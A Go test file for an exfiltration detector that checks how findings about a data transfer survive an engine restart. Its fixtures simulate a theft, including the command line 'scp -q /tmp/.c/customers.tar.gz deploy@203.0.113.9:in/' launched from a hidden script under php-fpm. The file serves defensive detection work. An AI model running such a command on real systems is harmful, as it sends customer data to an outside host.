package detect

import (
	"testing"
	"time"

	"interdict/sources/ecs"
)

// before gives the history of a theft that had sent 48 MB when the console was killed.
func before(t *testing.T, s *scene) *memory {
	t.Helper()
	past := &memory{}
	if err := past.Put(t.Context(), s.batch()); err != nil {
		t.Fatal(err)
	}
	return past
}

// tooled adds what the sensor tells of bytes: with the tool on whose behalf.
func tooled(s *scene) *scene {
	s.net("transfer", 4122, "203.0.113.9:22", 48_000_000, 4_000)
	s.Keyword(ecs.ProcessTool, "scp")
	s.Keyword(ecs.ProcessToolHow, "inherited")
	s.Int(ecs.ParentPID, 4121)
	s.Int(ecs.ParentStartTicks, 4121*1e6)
	return s
}

// again is an engine over what an earlier one saw, at whose start the given processes run.
func again(t *testing.T, past *memory, now time.Time, running ...int) (*desk, *Snapshot) {
	t.Helper()
	d := newDesk(t, Options{History: past})
	d.scene.now = now
	d.image(ecs.Process, "already_running", 1, 0, "/usr/lib/systemd/systemd")
	for _, pid := range running {
		d.image(ecs.Process, "already_running", pid, 1, "scp -q /tmp/.c/customers.tar.gz deploy@203.0.113.9:in/")
	}
	d.put(t)
	for range 2 {
		d.scene.now = d.scene.now.Add(recallGrace*time.Millisecond + time.Second)
		d.tick(t.Context())
	}
	return d, d.Snapshot()
}

func TestAfterARestartATransferThatEndedIsShownWholeAndAsEnded(t *testing.T) {
	s := tooled(theft())
	s.exit(4122, 0).exit(4121, 255)
	_, snap := again(t, before(t, s), s.now.Add(time.Minute))
	if len(snap.Findings) != 1 {
		t.Fatalf("one transfer is %d findings", len(snap.Findings))
	}
	f := snap.Findings[0]
	if f.Transfer == nil || f.Live() || f.Transfer.Sent != 48_000_000 || f.Transfer.Tool.ExitCode != 255 {
		t.Fatalf("got %+v", f.Transfer)
	}
	if what := f.Transfer.What(); what != "scp ◂ .x.sh" && what != "scp ◂ .x.sh ◂ php-fpm" {
		t.Errorf("what is %q", what)
	}
}

func TestWhatEndedWhileNobodyWatchedIsNotShownAsRunning(t *testing.T) {
	s := tooled(theft())
	_, snap := again(t, before(t, s), s.now.Add(time.Minute))
	if len(snap.Findings) != 1 {
		t.Fatalf("one transfer is %d findings", len(snap.Findings))
	}
	f := snap.Findings[0]
	if f.Live() || f.Process.Alive() || f.Transfer.Tool.ExitCode != unknownExit {
		t.Errorf("it is shown as going on: %+v", f.Transfer)
	}
	if f.Transfer.Ended.After(s.now) {
		t.Errorf("it is said to have ended at %v, and nothing was heard of it after %v", f.Transfer.Ended, s.now)
	}
}

func TestWhatStillRunsAfterARestartIsTheSameTransfer(t *testing.T) {
	s := tooled(theft())
	d, snap := again(t, before(t, s), s.now.Add(time.Minute), 4121, 4122)
	if len(snap.Findings) != 1 || !snap.Findings[0].Live() {
		t.Fatalf("got %+v", snap.Findings)
	}
	d.net("transfer", 4122, "203.0.113.9:22", 50_000_000, 4_000)
	if got := d.put(t).Findings[0].Transfer; got.Sent != 50_000_000 {
		t.Errorf("sent %d, the kernel says 50000000", got.Sent)
	}
}
